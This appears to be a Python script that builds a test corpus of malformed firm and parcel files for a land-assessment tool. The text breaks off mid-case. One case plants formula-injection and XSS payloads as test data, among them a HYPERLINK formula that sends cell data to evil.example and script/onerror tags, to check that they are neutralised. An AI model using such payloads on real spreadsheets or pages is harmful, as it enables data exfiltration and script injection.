"""Generate the awkward-input corpus (``tests/data/awkward/``) and its README.

Run from the repository root: ``python tests/data/awkward/make_corpus.py`` (rewrites ``base/``, ``cases/``
and ``README.md``). The committed files are this script's output; ``tests/test_awkward.py`` runs every case
of :data:`CASES` in-process through ``parkland assess`` and checks the outcome written here.

A case is a folder ``cases/<id>/`` with its input files and the arguments of ``parkland assess``
(``@`` = the case folder, ``@base`` = ``base/``). Unless a case names its own ``--parcels`` / ``--firms``,
the base park is used: four parcels in CGCS2000 3° zone 35 (EPSG:4523) and four firms on them.

Base park (hand-computed): P1 200×100 m = 30 亩, P2 100×100 m = 15 亩, P3 300×100 m = 45 亩, P4 60×50 m
= 4.5 亩; 甲 on P1 (tax 60 万元 → 2 万元/亩), 乙 on P2 (15 → 1), 丙 on P3 (90 → 2), 丁 on P4 (9 → 2).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
BASE = HERE / "base"
CASES_DIR = HERE / "cases"

M2_PER_MU = 10000 / 15
X0, Y0 = 35_600_000.0, 3_400_000.0  # prefixed zone-35 eastings near 106°E, 30.7°N
PIDS = [f"511302001001GB0000{i}" for i in range(1, 5)]
RECTS = [(0, 0, 200, 100), (300, 0, 100, 100), (0, 300, 300, 100), (500, 0, 60, 50)]
AREAS_MU = [30.0, 15.0, 45.0, 4.5]
PARKS = ["一园", "一园", "二园", "二园"]


def _uscc(i: int) -> str:
    from parkland.uscc import make

    return make(f"91511302MA{i:07d}")


#: base firms: name, credit code, parcel code, scale, revenue 万元, tax 万元
def base_firms() -> list[list]:
    return [
        ["甲公司", _uscc(1), PIDS[0], "规上", 600, 60],
        ["乙公司", _uscc(2), PIDS[1], "规上", 150, 15],
        ["丙公司", _uscc(3), PIDS[2], "规上", 900, 90],
        ["丁公司", _uscc(4), PIDS[3], "规下", 90, 9],
    ]


HEAD = ["企业名称", "统一社会信用代码", "宗地代码", "企业规模", "营业收入（万元）", "税收（万元）"]


@dataclass
class Case:
    id: str
    group: str
    title: str  # what is awkward about the input
    outcome: str  # the expected outcome, in words
    args: list[str]
    exit_code: int
    make: Callable[[Path], None] = field(repr=False, default=lambda d: None)


CASES: list[Case] = []


def case(id: str, group: str, title: str, outcome: str, args: list[str] | None = None, exit_code: int = 0):
    def deco(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        CASES.append(Case(id, group, title, outcome, list(args or []), exit_code, fn))
        return fn
    return deco


# --------------------------------------------------------------------------------------------------
# writers
# --------------------------------------------------------------------------------------------------
def rect(x: float, y: float, w: float, h: float, x0: float = X0, y0: float = Y0):
    import shapely

    return shapely.box(x0 + x, y0 + y, x0 + x + w, y0 + y + h)


def parcels_gdf(crs: str | None = "EPSG:4523", x0: float = X0, y0: float = Y0, id_field: str = "宗地代码",
                ids: list | None = None, parks: list | None = None):
    import geopandas as gpd

    return gpd.GeoDataFrame({
        id_field: ids or PIDS,
        "用途": ["工业用地"] * 4,
        "宗地面积（平方米）": [a * M2_PER_MU for a in AREAS_MU],
        "园区": parks or PARKS,
    }, geometry=[rect(*r, x0=x0, y0=y0) for r in RECTS], crs=crs)


def write_csv(path: Path, rows: list[list], encoding: str = "utf-8", newline: str = "\n", sep: str = ",",
              bom: bool = False) -> None:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=sep, lineterminator=newline)
    for r in rows:
        w.writerow(["" if c is None else c for c in r])
    data = buf.getvalue().encode(encoding)
    if bom:
        data = "\ufeff".encode(encoding) + data
    path.write_bytes(data)


def workbook(path: Path):
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False, "strings_to_formulas": False})
    wb.set_properties({"created": dt.datetime(2025, 1, 1)})
    return wb


def write_rows(ws, rows: list[list], first_row: int = 0) -> None:
    for i, r in enumerate(rows):
        for j, c in enumerate(r):
            if c is None:
                continue
            if isinstance(c, (int, float)) and not isinstance(c, bool):
                ws.write_number(first_row + i, j, c)
            else:
                ws.write_string(first_row + i, j, str(c))


def to_file(gdf, path: Path, **kw) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        gdf.to_file(path, engine="pyogrio", **kw)


def geojson(path: Path, features: list[dict], epsg: int | None = 4523) -> None:
    """A GeoJSON file written by hand (null and empty geometries, Z, a CRS member when not 4326)."""
    doc: dict = {"type": "FeatureCollection"}
    if epsg is not None and epsg != 4326:
        doc["crs"] = {"type": "name", "properties": {"name": f"urn:ogc:def:crs:EPSG::{epsg}"}}
    doc["features"] = [{"type": "Feature", "properties": p, "geometry": g} for p, g in features]
    path.write_text(json.dumps(doc, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


def ring(x: float, y: float, w: float, h: float, z: float | None = None, x0: float = X0, y0: float = Y0):
    pts = [(x0 + x, y0 + y), (x0 + x + w, y0 + y), (x0 + x + w, y0 + y + h), (x0 + x, y0 + y + h),
           (x0 + x, y0 + y)]
    return [[*p, z] if z is not None else list(p) for p in pts]


def props(i: int, **kw) -> dict:
    return {"宗地代码": PIDS[i], "园区": PARKS[i], **kw}


# --------------------------------------------------------------------------------------------------
# the base park
# --------------------------------------------------------------------------------------------------
def make_base() -> None:
    BASE.mkdir(parents=True, exist_ok=True)
    to_file(parcels_gdf(), BASE / "parcels.gpkg", layer="zongdi", driver="GPKG")
    write_csv(BASE / "firms.csv", [HEAD, *base_firms()])


# --------------------------------------------------------------------------------------------------
# Excel workbooks
# --------------------------------------------------------------------------------------------------
@case("xlsx_title_rows", "xlsx", "two title rows (「单位：元」 stated above the header), a blank row, header on row 4",
      "read; header found on row 4, money columns without a unit read in 元 per the title: tax 600000 元 = 60 万元",
      ["--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    ws = wb.add_worksheet("企业数据")
    ws.write_string(0, 0, "南充市2025年度工业企业亩均效益评价数据表")
    ws.write_string(1, 0, "填报单位：某区经信局    单位：元")
    head = ["企业名称", "统一社会信用代码", "宗地代码", "企业规模", "营业收入", "税收"]
    rows = [[n, u, p, s, r * 10000, t * 10000] for n, u, p, s, r, t in base_firms()]
    write_rows(ws, [head, *rows], first_row=3)
    wb.close()


@case("xlsx_merged_cells", "xlsx", "merged title across the columns, a two-row header (企业名称 merged over both "
      "rows, 经济指标 over 营业收入/税收) and 企业规模 merged down over three firms",
      "read; every cell of a merged range takes its value: the three merged firms are all 规上 (scale above), "
      "the two-row header is understood", ["--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    ws = wb.add_worksheet("企业数据")
    ws.merge_range(0, 0, 0, 5, "2025年度企业亩均效益数据")
    for j, h in enumerate(["企业名称", "统一社会信用代码", "宗地代码", "企业规模"]):
        ws.merge_range(1, j, 2, j, h)
    ws.merge_range(1, 4, 1, 5, "经济指标")
    ws.write_string(2, 4, "营业收入（万元）")
    ws.write_string(2, 5, "税收（万元）")
    rows = base_firms()
    write_rows(ws, [[n, u, p, None, r, t] for n, u, p, s, r, t in rows], first_row=3)
    ws.merge_range(3, 3, 5, 3, "规上")
    ws.write_string(6, 3, "规下")
    wb.close()


@case("xlsx_several_sheets", "xlsx", "a notes sheet (填表说明) before the data sheet",
      "read from the sheet whose header names known columns (企业数据); summary.json records the sheet",
      ["--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    ws = wb.add_worksheet("填表说明")
    write_rows(ws, [["填表说明"], ["1. 金额单位为万元"], ["2. 宗地代码填19位"]])
    write_rows(wb.add_worksheet("企业数据"), [HEAD, *base_firms()])
    wb.close()


@case("xlsx_sheet_option", "xlsx", "two data sheets (2024年, 2025年); --firms-sheet 2025年",
      "read from 2025年 (tax 60/15/90/9), not the first sheet (2024年 has tax 1 everywhere)",
      ["--firms", "@/firms.xlsx", "--firms-sheet", "2025年"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    write_rows(wb.add_worksheet("2024年"), [HEAD, *[[*r[:5], 1] for r in base_firms()]])
    write_rows(wb.add_worksheet("2025年"), [HEAD, *base_firms()])
    wb.close()


@case("xlsx_sheet_missing", "xlsx", "--firms-sheet names a sheet the workbook does not have",
      "exit 2: names the file and lists the sheets (2024年、2025年)",
      ["--firms", "@/firms.xlsx", "--firms-sheet", "2026年"], exit_code=2)
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    write_rows(wb.add_worksheet("2024年"), [HEAD, *base_firms()])
    write_rows(wb.add_worksheet("2025年"), [HEAD, *base_firms()])
    wb.close()


@case("xlsx_hidden_sheet", "xlsx", "a hidden first sheet holding last year's data, then the visible data sheet",
      "read from the visible sheet (tax 60/15/90/9)", ["--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    old = wb.add_worksheet("旧数据")
    write_rows(old, [HEAD, *[[*r[:5], 1] for r in base_firms()]])
    ws = wb.add_worksheet("企业数据")
    write_rows(ws, [HEAD, *base_firms()])
    ws.activate()
    old.hide()
    wb.close()


@case("xlsx_hidden_rows", "xlsx", "rows 3 and 4 of the sheet hidden (filtered out in Excel)",
      "read: hidden rows are data too; all 4 firms in firms.csv", ["--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    ws = wb.add_worksheet("企业数据")
    write_rows(ws, [HEAD, *base_firms()])
    ws.set_row(2, None, None, {"hidden": True})
    ws.set_row(3, None, None, {"hidden": True})
    wb.close()


@case("xlsx_numbers_as_text", "xlsx", "figures stored as text: '1,234.5', full-width digits '６０', spaces, '—'",
      "read as numbers (甲 revenue 1234.5, tax 60); '—' is missing, not 0", ["--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    ws = wb.add_worksheet("企业数据")
    rows = base_firms()
    rows[0][4:6] = ["1,234.5", "６０"]
    rows[1][4:6] = [" 150 ", "15.0"]
    rows[2][4:6] = ["—", "9 0"]
    rows[3][4:6] = ["90", "9"]
    for r in rows:
        r[4], r[5] = str(r[4]), str(r[5])
    write_rows(ws, [HEAD, *rows])
    wb.close()


@case("xlsx_codes_as_numbers", "xlsx", "numeric parcel codes (地块编码) stored as Excel numbers; an 18-digit "
      "credit code stored as a number (digits lost beyond 15)",
      "parcel codes read as their digits and linked (5113020010001.0 → 5113020010001); the 18-digit credit "
      "code, which Excel keeps as 9.1511302E+17, is listed (USCC_SCIENTIFIC), not guessed",
      ["--parcels", "@/parcels.geojson", "--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    ids = [5113020010001 + i for i in range(4)]
    geojson(d / "parcels.geojson", [({"地块编码": str(ids[i]), "园区": PARKS[i]}, {"type": "Polygon",
            "coordinates": [ring(*RECTS[i])]}) for i in range(4)])
    wb = workbook(d / "firms.xlsx")
    ws = wb.add_worksheet("企业数据")
    rows = base_firms()
    for i, r in enumerate(rows):
        r[2] = float(ids[i])
    rows[3][1] = 915113020000000123.0  # a number: Excel keeps 15 significant digits
    write_rows(ws, [["企业名称", "统一社会信用代码", "地块编码", "企业规模", "营业收入（万元）", "税收（万元）"], *rows])
    wb.close()


@case("xlsx_dates_chinese", "xlsx", "成立日期 as 2023年5月1日, 2023.05.01, 2023/5/1 and an Excel date cell",
      "every date read as 2023-05-01", ["--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    ws = wb.add_worksheet("企业数据")
    write_rows(ws, [[*HEAD, "成立日期"], *base_firms()])
    for i, v in enumerate(["2023年5月1日", "2023.05.01", "2023/5/1"]):
        ws.write_string(1 + i, 6, v)
    ws.write_datetime(4, 6, dt.datetime(2023, 5, 1), wb.add_format({"num_format": "yyyy-mm-dd"}))
    wb.close()


@case("xlsx_formulas", "xlsx", "figures computed by formulas (=E2/10) with cached values",
      "the cached values are read (tax 60/15/90/9), never the formula text", ["--firms", "@/firms.xlsx"])
def _(d: Path) -> None:
    wb = workbook(d / "firms.xlsx")
    ws = wb.add_worksheet("企业数据")
    rows = base_firms()
    write_rows(ws, [HEAD, *[r[:5] for r in rows]])
    for i, r in enumerate(rows):
        ws.write_formula(1 + i, 5, f"=E{i + 2}/10", None, r[5])
    wb.close()


@case("xlsx_is_csv", "xlsx", "firms.xlsx that is really a CSV text file",
      "exit 2: the extension is .xlsx but the content is text (CSV); rename it to .csv",
      ["--firms", "@/firms.xlsx"], exit_code=2)
def _(d: Path) -> None:
    write_csv(d / "firms.xlsx", [HEAD, *base_firms()])


@case("xlsx_corrupt", "xlsx", "firms.xlsx that starts like a zip file but is broken",
      "exit 2: cannot read the Excel workbook; open it in Excel and save as .xlsx",
      ["--firms", "@/firms.xlsx"], exit_code=2)
def _(d: Path) -> None:
    (d / "firms.xlsx").write_bytes(b"PK\x03\x04" + b"\x00garbage" * 64)


# --------------------------------------------------------------------------------------------------
# CSV and text tables
# --------------------------------------------------------------------------------------------------
@case("csv_gbk_crlf", "csv", "CSV in GBK with \\r\\n line ends (Excel's 'CSV' on a Chinese Windows)",
      "read; encoding gbk in summary.json; names right", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    write_csv(d / "firms.csv", [HEAD, *base_firms()], encoding="gbk", newline="\r\n")


@case("csv_gb18030", "csv", "CSV in GB18030 with a name only GB18030 can encode (䶮)",
      "read; the name 䶮科技 is exact", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[0][0] = "䶮科技有限公司"
    write_csv(d / "firms.csv", [HEAD, *rows], encoding="gb18030")


@case("csv_utf8", "csv", "CSV in UTF-8 without BOM", "read", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    write_csv(d / "firms.csv", [HEAD, *base_firms()])


@case("csv_utf8_bom", "csv", "CSV in UTF-8 with BOM and \\r\\n", "read; the BOM is not part of the first header",
      ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    write_csv(d / "firms.csv", [HEAD, *base_firms()], newline="\r\n", bom=True)


@case("txt_utf16_tab", "csv", "Excel 'Unicode text' export: UTF-16 LE with BOM, tab-separated, .txt",
      "read", ["--firms", "@/firms.txt"])
def _(d: Path) -> None:
    write_csv(d / "firms.txt", [HEAD, *base_firms()], encoding="utf-16-le", newline="\r\n", sep="\t", bom=True)


@case("csv_total_row", "csv", "a trailing total row (合计) and a blank line after it",
      "the total row is dropped and listed (TOTAL_ROW, dropped, with its CSV line 6); 4 firms",
      ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    write_csv(d / "firms.csv", [HEAD, *base_firms(), ["合计", "", "", "", 1740, 174], []])


@case("csv_headers_units", "csv", "headers with full-width brackets, stray spaces and units: ' 营业收入（元） ', "
      "'税收 (千元)', '用电量(千瓦时)'",
      "units converted: revenue 6,000,000 元 = 600 万元, tax 600 千元 = 60 万元, 1,000,000 千瓦时 = 100 万千瓦时",
      ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    head = ["企业名称 ", " 统一社会信用代码", "宗地代码", "企业规模", " 营业收入（元） ", "税收 (千元)", "用电量(千瓦时)"]
    rows = [[n, u, p, s, r * 10000, t * 10, 1_000_000] for n, u, p, s, r, t in base_firms()]
    write_csv(d / "firms.csv", [head, *rows])


@case("csv_codes_scientific", "csv", "codes Excel turned into scientific notation: 统一社会信用代码 9.15113E+17, "
      "宗地代码 5.11302E+18",
      "both listed (USCC_SCIENTIFIC, PARCEL_ID_SCIENTIFIC), not guessed; that firm has no land",
      ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[1][1] = "9.15113E+17"
    rows[1][2] = "5.11302E+18"
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("csv_ragged", "csv", "a row with more fields than headers and a row with fewer",
      "read: extra cells kept under 列N, missing cells empty; 4 firms", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[0] = [*rows[0], "备注多出一列"]
    rows[3] = rows[3][:5]
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("csv_blank_lines", "csv", "blank lines and a line of spaces between records",
      "blank records skipped; source_row 1..4, file_row = the CSV line (2, 4, 5, 7)", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    r = base_firms()
    write_csv(d / "firms.csv", [HEAD, r[0], [], r[1], r[2], ["  ", "", "", "", "", ""], r[3]])


@case("csv_multiline_codes", "csv", "several parcel codes in one quoted cell, split by a line break, '；' and '、'",
      "甲 links to P1 and P2 (45 亩; tax 60 → 1.333 万元/亩); the record spans two lines but is one firm",
      ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[0][2] = f"{PIDS[0]}\n{PIDS[1]}"
    rows[1][2] = f"{PIDS[1]}；{PIDS[0]}、"
    rows[1][1] = _uscc(1)  # the same firm listed twice is a duplicate: see csv_dup_uscc
    rows = [rows[0], rows[2], rows[3]]
    write_csv(d / "firms.csv", [HEAD, *rows], newline="\r\n")


@case("csv_fullwidth_codes", "csv", "parcel codes in full-width characters, lower case, with a hyphen and spaces",
      "normalised (５１１３０２… gb → 511302…GB) and linked", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    for r in rows:
        code = r[2]
        r[2] = " " + "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c.lower() for c in code[:12]) + \
            "-" + code[12:].lower() + " "
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("csv_bdcdyh_28", "csv", "28-character 不动产单元号 instead of the 19-character 宗地代码",
      "linked through the first 19 characters", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    for r in rows:
        r[2] = r[2] + "F00010001"
    write_csv(d / "firms.csv", [["企业名称", "统一社会信用代码", "不动产单元号", "企业规模", "营业收入（万元）", "税收（万元）"],
                                *rows])


@case("csv_dup_uscc", "csv", "two rows with the same credit code", "the second row is not_graded, 'duplicate of row "
      "2' (the CSV line of the first), takes no land; listed DUPLICATE_USCC", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows.append(["甲公司（重复）", rows[0][1], PIDS[1], "规上", 10, 1])
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("csv_bad_uscc", "csv", "a credit code with a wrong check digit, one too short, one with letters I/O",
      "kept and listed (BAD_USCC); the firms still link by parcel code", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    good = rows[0][1]
    rows[0][1] = good[:-1] + ("0" if good[-1] != "0" else "1")
    rows[1][1] = rows[1][1][:10]
    rows[2][1] = "91511302MAIO00003X"
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("csv_negative_tax", "csv", "a negative tax (refund) and a missing revenue",
      "kept, listed NEGATIVE_VALUE; 乙 tax_per_mu = -5/15 = -0.3333; missing revenue stays missing",
      ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[1][5] = -5
    rows[2][4] = ""
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("csv_zero_land", "csv", "a firm with no parcel code and 用地面积 0; a firm with 0 tax",
      "the zero reported land is listed (BAD_REPORTED_LAND) and the firm has no land (no inf per mu); zero tax "
      "gives 0 万元/亩", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = [[*r, ""] for r in base_firms()]
    rows[3][5] = 0
    rows.append(["戊公司", _uscc(5), "", "规下", 50, 5, 0])
    write_csv(d / "firms.csv", [[*HEAD, "用地面积（亩）"], *rows])


@case("csv_absurd_values", "csv", "亩均税收 of 10⁶: tax 4,500,000 万元 on 4.5 亩 (a unit slip)",
      "kept, listed as suspicious (ABSURD_VALUE, kept: tax_per_mu 1,000,000 > the policy's absurd threshold "
      "1000 万元/亩)", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[3][5] = 4_500_000
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("csv_unknown_parcel", "csv", "a parcel code that is not in the layer", "that firm is parcel_not_found, listed "
      "PARCEL_NOT_FOUND; the others are assessed", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[2][2] = "511302001001GB09999"
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("csv_lonlat_only", "csv", "firms with 经度/纬度 and no codes at all", "linked by the parcel containing the point "
      "(link_method point)", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    import geopandas as gpd

    pts = gpd.GeoSeries([rect(*r).centroid for r in RECTS], crs="EPSG:4523").to_crs(4326)
    rows = [[n, "", s, r, t, round(p.x, 8), round(p.y, 8)] for (n, _u, _p, s, r, t), p in zip(base_firms(), pts)]
    write_csv(d / "firms.csv", [["企业名称", "统一社会信用代码", "企业规模", "营业收入（万元）", "税收（万元）", "经度", "纬度"],
                                *rows])


@case("csv_no_link_column", "csv", "a firm table with no parcel code, credit code, coordinates or land column",
      "exit 2: names the file and the header row 1, lists the accepted headers", ["--firms", "@/firms.csv"],
      exit_code=2)
def _(d: Path) -> None:
    write_csv(d / "firms.csv", [["企业名称", "营业收入（万元）", "税收（万元）"], *[[r[0], r[4], r[5]] for r in base_firms()]])


@case("csv_header_only", "csv", "a firm table with a header and no rows",
      "valid: the land is assessed without firms (4 parcels, 0 firms)", ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    write_csv(d / "firms.csv", [HEAD])


@case("csv_empty_file", "csv", "a firm file of 0 bytes", "exit 2: the file is empty (no header)",
      ["--firms", "@/firms.csv"], exit_code=2)
def _(d: Path) -> None:
    (d / "firms.csv").write_bytes(b"")


@case("csv_is_binary", "csv", "firms.csv that holds a PNG image", "exit 2: neither a text table nor a workbook",
      ["--firms", "@/firms.csv"], exit_code=2)
def _(d: Path) -> None:
    (d / "firms.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)


@case("csv_is_xlsx", "csv", "firms.csv that is really an Excel workbook", "exit 2: rename it to .xlsx",
      ["--firms", "@/firms.csv"], exit_code=2)
def _(d: Path) -> None:
    wb = workbook(d / "firms.csv")
    write_rows(wb.add_worksheet("企业数据"), [HEAD, *base_firms()])
    wb.close()


@case("csv_hostile_text", "csv", "names and codes that are formulas or HTML: =HYPERLINK(…), +1+1, @SUM(A1), "
      "-2, <script>alert(1)</script>, <img src=x onerror=alert(2)>",
      "read as text; in firms.csv every such cell starts with an apostrophe; map.html carries no live tag",
      ["--firms", "@/firms.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[0][0] = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    rows[1][0] = "<script>alert(1)</script>"
    rows[2][0] = "+1+1<img src=x onerror=alert(2)>"
    rows[3][0] = "@SUM(A1)"
    rows[3][3] = "-2"
    write_csv(d / "firms.csv", [HEAD, *rows])


@case("firms_missing", "paths", "--firms names a file that does not exist", "exit 2: names the missing file",
      ["--firms", "@/nope.xlsx"], exit_code=2)
def _(d: Path) -> None:
    pass


@case("firms_is_dir", "paths", "--firms names a folder", "exit 2: this is a folder, not a table file",
      ["--firms", "@/folder.csv"], exit_code=2)
def _(d: Path) -> None:
    (d / "folder.csv").mkdir()
    (d / "folder.csv" / ".keep").write_text("", encoding="utf-8")


# --------------------------------------------------------------------------------------------------
# parcel layers
# --------------------------------------------------------------------------------------------------
@case("shp_gbk_no_cpg", "layers", "a Shapefile whose .dbf is GBK, with no .cpg", "attributes read right (园区 一园/二园, "
      "codes linked)", ["--parcels", "@/parcels.shp"])
def _(d: Path) -> None:
    g = parcels_gdf()
    g = g.rename(columns={"宗地面积（平方米）": "宗地面积"})
    to_file(g, d / "parcels.shp", driver="ESRI Shapefile", encoding="GBK")
    (d / "parcels.cpg").unlink(missing_ok=True)


@case("shp_no_prj", "layers", "a Shapefile with no .prj (prefixed zone-35 eastings)",
      "exit 2: no CRS; the message suggests EPSG:4523 from the 8-digit eastings and --crs",
      ["--parcels", "@/parcels.shp"], exit_code=2)
def _(d: Path) -> None:
    to_file(parcels_gdf(crs=None).rename(columns={"宗地面积（平方米）": "宗地面积"}), d / "parcels.shp",
            driver="ESRI Shapefile", encoding="UTF-8")


@case("shp_no_prj_crs_given", "layers", "the same Shapefile without .prj, with --crs EPSG:4523",
      "read; areas 30/15/45/4.5 亩", ["--parcels", "@/parcels.shp", "--crs", "EPSG:4523"])
def _(d: Path) -> None:
    to_file(parcels_gdf(crs=None).rename(columns={"宗地面积（平方米）": "宗地面积"}), d / "parcels.shp",
            driver="ESRI Shapefile", encoding="UTF-8")


@case("shp_xian80", "layers", "a layer in 西安80 (Xian 1980 3° zone 35, EPSG:2359)",
      "recognised as Gauss–Krüger: measured in its own CRS (measure_epsg 2359), areas exact",
      ["--parcels", "@/parcels.shp"])
def _(d: Path) -> None:
    to_file(parcels_gdf(crs="EPSG:2359").rename(columns={"宗地面积（平方米）": "宗地面积"}), d / "parcels.shp",
            driver="ESRI Shapefile", encoding="UTF-8")


@case("gpkg_beijing54", "layers", "a layer in 北京54 (Beijing 1954 3° zone 35, EPSG:2411)",
      "recognised as Gauss–Krüger: measure_epsg 2411, areas exact", ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    geojson(d / "parcels.geojson", [(props(i), {"type": "Polygon", "coordinates": [ring(*RECTS[i])]})
                                    for i in range(4)], epsg=2411)


@case("custom_city_grid", "layers", "a city's independent grid declared as a custom transverse Mercator "
      "(central meridian 106.08°E, local false easting/northing)",
      "recognised as a projection; measured in CGCS2000 zone 35 (EPSG:4544); areas within 0.1 %",
      ["--parcels", "@/parcels.gpkg"])
def _(d: Path) -> None:
    crs = "+proj=tmerc +lat_0=0 +lon_0=106.08 +k=1 +x_0=50000 +y_0=-3300000 +ellps=GRS80 +units=m +no_defs"
    to_file(parcels_gdf(crs=crs, x0=40_000.0, y0=100_000.0), d / "parcels.gpkg", layer="zongdi", driver="GPKG")


@case("local_grid_declared_cgcs2000", "layers", "local grid coordinates (x≈40 000, y≈20 000) in a layer that "
      "declares CGCS2000 zone 35 without prefix (EPSG:4544)",
      "read, but warned: a file-level record COORDINATES_OUTSIDE_ZONE (kept) says the parcels fall outside "
      "every CGCS2000 zone in China (a local grid or a wrong .prj)", ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    geojson(d / "parcels.geojson", [(props(i), {"type": "Polygon", "coordinates": [ring(*RECTS[i], x0=40_000.0,
            y0=20_000.0)]}) for i in range(4)], epsg=4544)


@case("local_grid_no_prj", "layers", "local grid coordinates with no CRS at all",
      "exit 2: no CRS, and the coordinates do not tell it; pass --crs", ["--parcels", "@/parcels.shp"], exit_code=2)
def _(d: Path) -> None:
    to_file(parcels_gdf(crs=None, x0=40_000.0, y0=20_000.0).rename(columns={"宗地面积（平方米）": "宗地面积"}),
            d / "parcels.shp", driver="ESRI Shapefile", encoding="UTF-8")


@case("geojson_wgs84", "layers", "parcels in longitude/latitude (EPSG:4326)",
      "measured in the CGCS2000 zone of each parcel (EPSG:4544), areas within 1e-6", ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    import geopandas as gpd

    g = parcels_gdf().to_crs(4326)
    gpd.GeoDataFrame(g).to_file(d / "parcels.geojson", driver="GeoJSON", engine="pyogrio",
                                layer_options={"COORDINATE_PRECISION": 10})


@case("geojson_gcj02_as_wgs84", "layers", "parcels shifted to GCJ-02 (高德) but declared WGS84",
      "read as WGS84 (exit 0); areas come out ~0.3 % too large (GCJ-02 is not a pure translation); the "
      "shift itself is NOT detected (stretch goal, not done)", ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    import numpy as np
    import shapely

    from parkland.geo.crs import wgs84_to_gcj02

    g = parcels_gdf().to_crs(4326)

    def shift(c: np.ndarray) -> np.ndarray:
        x, y = wgs84_to_gcj02(c[:, 0], c[:, 1])
        return np.column_stack([x, y])

    g["geometry"] = shapely.transform(np.asarray(g.geometry.array), shift)
    g.to_file(d / "parcels.geojson", driver="GeoJSON", engine="pyogrio", layer_options={"COORDINATE_PRECISION": 10})


@case("gpkg_multilayer", "layers", "a GeoPackage whose first layer is buildings (no parcel code), the second the "
      "parcels; no --parcels-layer",
      "the layer with a parcel-code field (zongdi) is used and the choice is listed (LAYER_CHOSEN)",
      ["--parcels", "@/city.gpkg"])
def _(d: Path) -> None:
    import geopandas as gpd

    b = gpd.GeoDataFrame({"层数": [2, 3]}, geometry=[rect(10, 10, 50, 50), rect(310, 10, 20, 20)], crs="EPSG:4523")
    to_file(b, d / "city.gpkg", layer="buildings", driver="GPKG")
    to_file(parcels_gdf(), d / "city.gpkg", layer="zongdi", driver="GPKG", mode="a")


@case("gpkg_multilayer_named", "layers", "the same GeoPackage with --parcels-layer zongdi", "read; no layer note",
      ["--parcels", "@/../gpkg_multilayer/city.gpkg", "--parcels-layer", "zongdi"])
def _(d: Path) -> None:
    pass


@case("gpkg_layer_missing", "layers", "--parcels-layer names a layer that is not there",
      "exit 2: lists the layers (buildings、zongdi) and --parcels-layer",
      ["--parcels", "@/../gpkg_multilayer/city.gpkg", "--parcels-layer", "宗地"], exit_code=2)
def _(d: Path) -> None:
    pass


@case("mixed_polygon_multipolygon", "layers", "Polygon and MultiPolygon features in one layer (P2 in two parts)",
      "both read; P2 = 10 + 5 亩 = 15 亩", ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    feats = [(props(i), {"type": "Polygon", "coordinates": [ring(*RECTS[i])]}) for i in range(4)]
    feats[1] = (props(1), {"type": "MultiPolygon", "coordinates": [[ring(300, 0, 100, 50)],
                                                                  [ring(300, 60, 100, 25)],
                                                                  [ring(420, 0, 100, 25)]]})
    geojson(d / "parcels.geojson", feats)


@case("bad_geometries", "layers", "a self-intersecting bow-tie, an empty geometry, a null geometry, a point, a "
      "zero-area sliver",
